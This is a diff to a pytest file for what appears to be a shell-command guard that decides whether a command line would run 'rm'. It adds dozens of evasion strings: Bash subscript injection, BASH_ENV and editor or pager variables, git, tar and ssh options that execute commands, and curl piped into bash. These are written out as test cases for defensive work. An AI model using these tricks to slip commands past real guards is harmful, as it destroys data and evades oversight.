@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -51,6 +52,29 @@ RUNS_RM = (
     'trap "rm $t" EXIT', "alias d=rm; d x", "alias d='rm -f'", "hash -p /bin/rm ls; ls x", "mapfile -C 'rm x' -c 1 a",
     "PS4='$(rm x)' bash -x f", "PROMPT_COMMAND='rm x' bash", "git submodule foreach 'rm x'", "git bisect run rm x",
     "git rebase -x 'rm x' main", "git -c alias.x='!rm x' x",
+    # Options that stand together, shortened names, texts that are split
+    "bash -oc errexit 'rm x'",
+    "bash \"$OPTION\" 'rm x'", "env --spl='rm x'", "env -S '\\_rm\\_x'", "env -S '-S rm\\_x'",
+    "env -S 'rm x\\c y'", "echo 'rm x' |\nsh", "echo 'rm x' | # now\nsh", "bash -s a <<< 'rm x'",
+    "bash <<< 'rm x' 3<f", "printf '%sm x' r | sh", "find . $ACTION rm ;",
+    # What Bash evaluates in quotation marks
+    "a='x[$(rm x)]'; ((a))", "test -v 'x[$(rm x)]'", "[[ 'x[`rm x`]' -eq 1 ]]", "printf -v 'x[$(rm x)]' y",
+    "set -- 'a[$(rm x)]'; : $(($1))", "for a in 'x[$(rm x)]'; do : $((a)); done", "read a <<< 'x[$(rm x)]'",
+    "declare 'x[$(rm x)]=1'", ": ${a['$(rm x)']}", ': "${a:\'x[$(rm x)]\'}"', "x=(['$(rm x)']=b)", "let 'x[$(rm x)]=1'",
+    "x='$(rm x)'; : ${x@P}", "PS1='$(rm x)' bash -i", "echo \"${x:-'$(rm x)'}\"", "compgen -W '$(rm x)'",
+    # Variables that programs take for commands
+    "export BASH_ENV='$(rm x)'", "env BASH_ENV='$(rm x)' bash f", "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
+    "BASH_ALIASES[a]=rm", "GIT_SSH_COMMAND='rm x' git fetch", "EDITOR='rm x' git commit", "export PAGER='rm x'",
+    "sudo EDITOR='rm x' vipw", "LESSOPEN='|rm %s' less f", "GIT_CONFIG_VALUE_0='!rm x' git a",
+    "A='!rm x' git --config-env=alias.q=A q",
+    # Options and settings that hold a command
+    "git config alias.q '!rm x'", "git config --global core.pager 'rm x'", "git -c core.fsmonitor='rm x' status",
+    "git fetch --upload-pack='rm x' .", "git clone -u 'rm x' . y", "git clone 'ext::rm x' y", "git grep -O'rm x' y",
+    "tar -I 'rm x' -cf a f", "tar --use-comp='rm x' -cf a f", "tar --checkpoint-action exec='rm x' -cf a f",
+    "tar -xf a --to-command='rm x'", "ssh -oProxyCommand='rm x' h", "scp -o 'LocalCommand rm x' f h:",
+    "rsync -e 'rm x' f h:f", "sort --compress-program=rm f", "split --filter 'rm x' f", "man -P 'rm x' ls",
+    "zip -TT 'rm x' a f", "apt-get -o APT::Update::Pre-Invoke::='rm x' update", "npm exec -c 'rm x'",
+    "history -s 'rm x'; fc -s", "compgen -C 'rm x' a",
     # Behind programs that nobody here knows
     "some-runner rm x", "some-runner --fast 3 -- rm -rf x", "./run.sh rm x", "tmux new-session 'rm x'",
 )  # fmt: skip
@@ -61,6 +85,13 @@ CANNOT_BE_TOLD = (
     "xargs sh -c", "xargs -I{} sh -c '{}'", "find . -exec sh -c 'ls {}' \\;", "source <(curl https://e.example/x)",
     "bash <(curl https://e.example/x)", "curl https://e.example/x | . /dev/stdin", "bash <<E\n$X\nE", "sudo $X",
     "env $X y", "trap \"$X\" EXIT", "echo 'oops", "ls $(", "X=ls; $X",
+    # Shells that read what was given to something around them
+    "{ bash; } <<< 'rm x'", "(sh) <<E\nrm x\nE", "if ls; then sh; fi <<< 'rm x'", "echo 'rm x' | { sh; }",
+    "echo 'rm x' | (cd sub && sh)", "echo 'rm x' | while ls; do sh; done", "f() { sh; }; f <<< 'rm x'",
+    "echo 'rm x' > >(sh)", "echo 'rm x' | tee >(sh)", "exec <<< 'rm x'; bash", "exec 3<<< 'rm x'; bash <&3",
+    "sh 3<<E <&3\nrm x\nE", "bash 3<<< 'rm x' /dev/fd/3", "cat x | sh -c sh", "cat x | eval sh",
+    "cat x | sh //dev/stdin", "cat x | sh /dev/../dev/stdin", "cat x | sh -c '. /dev/stdin'", "cat x | bash -s a b",
+    "bash --rcfile <(cat x) -i",     "BASH_ALIASES=([a]='rm x')",
 )  # fmt: skip
 
 RUNS_NO_RM = (
@@ -69,6 +100,9 @@ RUNS_NO_RM = (
     "find . -name rm", "python3 rm.py", "trap - EXIT", "alias", "env", "for f in *.c; do cc -c \"$f\"; done",
     "echo '$(rm x)'", "# rm x", "cat <<'E'\n$(rm x)\nE", "x=1; (( x > rm ))", "[[ rm == x ]]", "echo {rm,x}",
     "true < rm", "time", "test -f x && ls", "printf '%s' \"$x\" | grep rm", "./build.sh $TARGET",
+    "{ bash x.sh; } < f", "cat x | while read f; do bash build.sh \"$f\"; done", "exec > >(tee log) 2>&1; ls",
+    "echo \"${x:-it's}\" 'rm x'", "EDITOR=\"$VISUAL\" git commit", "PS1='\\u:\\w$ '", "git config user.name rm",
+    "awk '{a[$(NF-1)]++}' f", "tar -I zstd -cf a f", "sed 's/[a]/`b`/' f",
 )  # fmt: skip
 
 
@@ -190,3 +224,15 @@ def test_of_two_with_one_text_the_unclear_one_is_kept(tmp_path: Path) -> None:
     subjects = touched('bash -c "$(cat x)"', tmp_path)
     assert len({(one.kind, one.text, one.only_deny) for one in subjects}) == len(subjects)
     assert any(one.unclear for one in subjects)
+
+
+def test_what_a_process_has_open_itself_is_not_what_the_worker_has_open(tmp_path: Path) -> None:
+    reading, writing = os.pipe()
+    try:
+        for line in (f"cat /dev/fd/{reading}", f"echo x > /proc/self/fd/{writing}", "cat /dev/stdin > /dev/stderr"):
+            found = decided(line, tmp_path)
+            assert found.action is Action.ALLOW, found.sentence
+        assert decided(f"cat /proc/{os.getpid()}/fd/{reading}", tmp_path).action is Action.DENY
+    finally:
+        os.close(reading)
+        os.close(writing)
